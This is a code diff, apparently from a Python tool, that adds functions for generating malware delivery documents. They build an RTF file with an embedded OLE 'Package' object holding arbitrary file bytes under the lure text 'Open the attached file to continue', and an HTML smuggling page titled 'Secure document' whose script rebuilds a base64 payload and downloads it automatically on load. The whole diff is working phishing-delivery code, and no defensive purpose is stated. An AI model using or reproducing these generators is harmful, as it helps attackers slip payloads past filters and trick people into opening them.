@@ -171,6 +171,60 @@ def pdf_string(s: str) -> bytes:
     return b"(" + esc.encode("latin-1", "replace") + b")"
 
 
+def package_native(name: str, data: bytes) -> bytes:
+    """The OLE Packager's native data: flags, label, source path, then the temporary path and the
+    file, as Word and WordPad write an embedded "Package"."""
+    source = f"C:\\Users\\user\\Desktop\\{name}".encode()
+    temp = f"C:\\Users\\user\\AppData\\Local\\Temp\\{name}".encode() + b"\0"
+    return (
+        (2).to_bytes(2, "little") + name.encode() + b"\0" + source + b"\0"
+        + (0x00030000).to_bytes(4, "little") + len(temp).to_bytes(4, "little") + temp
+        + len(data).to_bytes(4, "little") + data
+    )
+
+
+def write_rtf_package(out: Path, text: str, name: str, data: bytes) -> None:
+    """An RTF document with an embedded OLE1 "Package" object (\\object\\objemb, \\objdata in hex)."""
+    native = package_native(name, data)
+    class_name = b"Package\0"
+    ole1 = (
+        (0x00000501).to_bytes(4, "little") + (2).to_bytes(4, "little")
+        + len(class_name).to_bytes(4, "little") + class_name
+        + (0).to_bytes(4, "little") + (0).to_bytes(4, "little")
+        + len(native).to_bytes(4, "little") + native
+    )
+    hexdata = ole1.hex()
+    lines = "\n".join(hexdata[i : i + 128] for i in range(0, len(hexdata), 128))
+    rtf = (
+        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\n"
+        f"\\pard\\f0\\fs22 {text}\\par\n"
+        "\\pard Open the attached file to continue.\\par\n"
+        "{\\object\\objemb\\objw1440\\objh1440{\\*\\objclass Package}{\\*\\objdata\n"
+        f"{lines}\n}}}}\n}}\n"
+    )
+    out.write_text(rtf)
+
+
+def write_html_smuggle(out: Path, name: str, data: bytes) -> None:
+    """An HTML page that hands the visitor a file from inside itself ("HTML smuggling"): a base64
+    data: link with a download name, and the same bytes rebuilt as a Blob by a script."""
+    b = base64.b64encode(data).decode()
+    html = f"""<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>Secure document</title></head>
+<body>
+<p>Your document is ready. If the download does not start, <a id="dl" href="data:application/octet-stream;base64,{b}" download="{name}">click here</a>.</p>
+<script>
+var b64 = document.getElementById("dl").href.split(",")[1];
+var bin = atob(b64), bytes = new Uint8Array(bin.length);
+for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);
+var url = URL.createObjectURL(new Blob([bytes], {{type: "application/octet-stream"}}));
+var a = document.createElement("a"); a.href = url; a.download = "{name}"; document.body.appendChild(a); a.click();
+</script>
+</body></html>
+"""
+    out.write_text(html)
+
+
 def write_word_package(out: Path, ole_tool: str, text: str, payload: Path | None, label: str | None) -> None:
     """A Word 97–2003 .doc; with a payload, the payload is an embedded OLE Package object."""
     cmd = [ole_tool, str(out), "--text", text]
